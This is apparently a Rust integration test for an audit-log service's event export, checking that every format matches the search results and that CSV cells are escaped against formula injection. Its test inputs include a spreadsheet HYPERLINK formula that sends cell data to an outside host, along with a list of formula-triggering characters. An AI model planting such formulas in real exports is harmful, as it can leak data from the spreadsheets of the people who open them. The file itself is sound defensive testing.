//! Exports of generated and real events: every format holds exactly the events of the list, and a third-party library
//! can read it.

use std::{fs, io::Read};

use arrow_array::{
    Array, ArrayRef,
    cast::AsArray,
    types::{Int64Type, TimestampMicrosecondType},
};
use auditlog_core::timestamp::Timestamp;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};

use crate::{
    cloudtrail,
    harness::{Installation, Server, User, text},
};

/// Columns that hold JSON.
const JSON_COLUMNS: [&str; 7] =
    ["actor.groups", "actor.attributes", "on_behalf_of", "targets", "changes", "metadata", "adjustments"];

/// Members that are numbers in JSON.
const NUMBERS: [&str; 2] = ["producer.sequence", "raw.size"];

/// Text that a spreadsheet would evaluate.
const FORMULA_SIGNS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '＠'];

/// Characters after which some spreadsheets begin a cell.
const CELL_SEPARATORS: [char; 5] = [';', '|', '\t', '\r', '\n'];

/// The file of an export, as a client receives it.
fn export(server: &Server, key: &str, query: &str, parameters: &[(&str, &str)]) -> Vec<u8> {
    let request = ureq::get(format!("{}/api/v1/events/export", server.url))
        .query("q", query)
        .query_pairs(parameters.iter().copied())
        .header("authorization", format!("Bearer {key}"));
    let mut file = Vec::new();
    request.call().unwrap().into_body().into_reader().read_to_end(&mut file).unwrap();
    file
}

fn of_ndjson(file: &[u8]) -> Vec<Value> {
    std::str::from_utf8(file).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn of_csv(file: &[u8]) -> Vec<Value> {
    let mut reader = csv::ReaderBuilder::new().from_reader(file);
    let header = reader.headers().unwrap().clone();
    let mut events = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        assert!(!record.iter().any(|cell| cell.starts_with(FORMULA_SIGNS)), "a formula: {record:?}");
        let mut parts = record.iter().flat_map(|cell| cell.split(CELL_SEPARATORS).skip(1));
        assert!(!parts.any(|part| part.starts_with(|sign| "=+-@＝＋－＠".contains(sign))), "a formula: {record:?}");
        let cells = header.iter().zip(&record).filter(|(_, cell)| !cell.is_empty());
        events.push(event_of(
            cells.map(|(name, cell)| {
                (name, if JSON_COLUMNS.contains(&name) { cell.to_owned() } else { unmarked(cell) })
            }),
        ));
    }
    events
}

/// The text of a cell without the marks that keep a spreadsheet from evaluating it.
fn unmarked(cell: &str) -> String {
    let mut is_at_beginning = true;
    let mut text = String::with_capacity(cell.len());
    for character in cell.chars() {
        if !(is_at_beginning && character == '\'') {
            text.push(character);
        }
        is_at_beginning = CELL_SEPARATORS.contains(&character);
    }
    text
}

fn of_parquet(file: Vec<u8>) -> Vec<Value> {
    let reader = ParquetRecordBatchReaderBuilder::try_new(bytes::Bytes::from(file)).unwrap().build().unwrap();
    let mut events = Vec::new();
    for rows in reader {
        let rows = rows.unwrap();
        let schema = rows.schema();
        for row in 0..rows.num_rows() {
            let cells = schema.fields().iter().zip(rows.columns()).filter(|(_, values)| values.is_valid(row));
            events.push(event_of(cells.map(|(field, values)| (field.name().as_str(), parquet_text(values, row)))));
        }
    }
    events
}

fn parquet_text(values: &ArrayRef, row: usize) -> String {
    if let Some(texts) = values.as_string_opt::<i32>() {
        return texts.value(row).to_owned();
    }
    if let Some(times) = values.as_primitive_opt::<TimestampMicrosecondType>() {
        return Timestamp::from_micros(times.value(row)).to_string();
    }
    if let Some(numbers) = values.as_primitive_opt::<Int64Type>() {
        return numbers.value(row).to_string();
    }
    values.as_boolean().value(row).to_string()
}

/// The event in a row of a table.
fn event_of<'c>(cells: impl Iterator<Item = (&'c str, String)>) -> Value {
    let mut event = Value::Object(Map::new());
    for (name, cell) in cells {
        let value = match name {
            "skewed" if cell == "false" => continue,
            _ if name == "skewed" || JSON_COLUMNS.contains(&name) || NUMBERS.contains(&name) => {
                serde_json::from_str(&cell).unwrap_or_else(|error| panic!("{name}: {cell}: {error}"))
            }
            _ => Value::String(cell),
        };
        *member_at(&mut event, name) = value;
        if name == "raw.sha256" {
            *member_at(&mut event, "raw.truncated") = json!(true);
        }
    }
    event
}

/// The member at a dotted name; creates the objects on the way to it.
fn member_at<'e>(event: &'e mut Value, name: &str) -> &'e mut Value {
    name.split('.').fold(event, |object, member| &mut object[member])
}

/// The events of a file of this format.
pub(crate) fn events_of(format: &str, file: Vec<u8>) -> Vec<Value> {
    match format {
        "ndjson" => of_ndjson(&file),
        "json" => serde_json::from_slice(&file).unwrap(),
        "csv" => of_csv(&file),
        "parquet" => of_parquet(file),
        other => panic!("no format {other}"),
    }
}

/// Compares events with those of the list.
pub(crate) fn assert_same(events: &[Value], expected: &[Value], of: &str) {
    assert_eq!(events.len(), expected.len(), "{of}");
    // Shows only the difference, not all events.
    let different = events.iter().zip(expected).find(|(exported, listed)| exported != listed);
    assert_eq!(different, None, "{of}");
    assert_eq!(checksum(events), checksum(expected), "{of}");
}

/// SHA-256 over all events, one per line, with sorted members.
fn checksum(events: &[Value]) -> [u8; 32] {
    let mut digest = Sha256::new();
    for event in events {
        digest.update(format!("{event}\n"));
    }
    digest.finalize().into()
}

/// The events of the list, in the order of the log.
pub(crate) fn listed(user: &User<'_>, query: &str) -> Vec<Value> {
    let mut events = user.search(&["--all", query]);
    events.sort_by_key(|event| event["sequence"].as_str().unwrap().parse::<u64>().unwrap());
    events
}

/// Compares every format with the list, and returns how many events matched.
fn check(server: &Server, key: &str, user: &User<'_>, query: &str) -> usize {
    let expected = listed(user, query);
    for format in ["ndjson", "json", "csv", "parquet"] {
        let file = export(server, key, query, &[("format", format)]);
        assert_same(&events_of(format, file), &expected, &format!("{format}: {query}"));
    }
    expected.len()
}

/// Texts that are difficult to represent in a table.
const HARD_TEXTS: [&str; 9] = [
    "=HYPERLINK(\"https://example.org/?\"&A1, \"click\")",
    "+49 30 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\ttab",
    "'quoted, \"twice\"",
    "two\nlines\r\n\r\nand a third",
    "Grüße, 日本語, עברית, 🎉, e\u{301}",
    "a,b;c\\d\u{2028}",
];

fn send_hard_texts(place: &Installation, user: &User<'_>) {
    let events = HARD_TEXTS.map(|text| {
        let actor = json!({"type": "user", "id": text, "name": text, "groups": [text], "attributes": {(text): text}});
        let targets = json!([{"type": "file", "id": text}, {"type": "file", "id": "2", "name": text}, {"name": text}]);
        let changes = json!([{"path": "/a", "op": "replace", "old": text, "new": {"deep": [text, null, -1.5e-9]}}]);
        let event = json!({
            "action": "table.break", "actor": actor, "targets": targets, "changes": changes, "message": text,
            "metadata": {(text): text, "number": -7, "nothing": null, "deep": [{(text): text}, []]},
            "source": {"service": "tables"}, "external_id": text,
            "context": {"user_agent": text, "ip": "[2001:db8::1]:443"}, "occurred_at": "2026-01-02T03:04:05.000006Z",
            "producer": {"id": "=p", "sequence": 9_007_199_254_740_991_u64}, "raw": {"format": "text", "body": text.repeat(9_000)},
            "outcome": {"status": "failure", "code": "=1", "reason": text}, "reason": {"text": text, "ticket": text},
        });
        format!("{event}\n")
    });
    let file = place.path("hard-texts.ndjson");
    fs::write(&file, events.concat()).unwrap();
    user.ok(&["import", "--format", "ndjson", text(&file)]);
}

#[test]
fn every_format_of_fifty_thousand_events_holds_what_the_list_gives() {
    let place = Installation::new();
    // Most of them in segments, some in the tail.
    let server = place.start_sealing(8_000);
    let key = place.keys().default;
    let user = place.user(&server, &key);
    user.ok(&["demo-data", "--events", "50000", "--seed", "7", "--until", "2026-11-01T00:00:00Z"]);
    send_hard_texts(&place, &user);
    assert_eq!(check(&server, &key, &user, "action:table.break OR \"no such words\""), HARD_TEXTS.len());
    let some = check(&server, &key, &user, "(outcome:denied OR severity:>=high OR action:user.*) -service:auditlog");
    assert!((1_000..40_000).contains(&some), "{some} match");
    assert!(check(&server, &key, &user, "") > 50_000);
    assert_eq!(check(&server, &key, &user, "action:none OR actor:none"), 0);
}

#[test]
fn every_format_of_real_events_holds_what_the_list_gives() {
    let place = Installation::new();
    let server = place.start_sealing(500);
    let key = place.keys().default;
    let user = place.user(&server, &key);
    cloudtrail::import(&user).ok();
    assert_eq!(check(&server, &key, &user, "raw.format:cloudtrail") as u64, cloudtrail::RECORDS);
    let some = check(&server, &key, &user, "raw.format:cloudtrail (action:s3.* OR outcome:denied OR ip:10.0.0.0/8)");
    assert!((1..2_122).contains(&some), "{some} match");
}
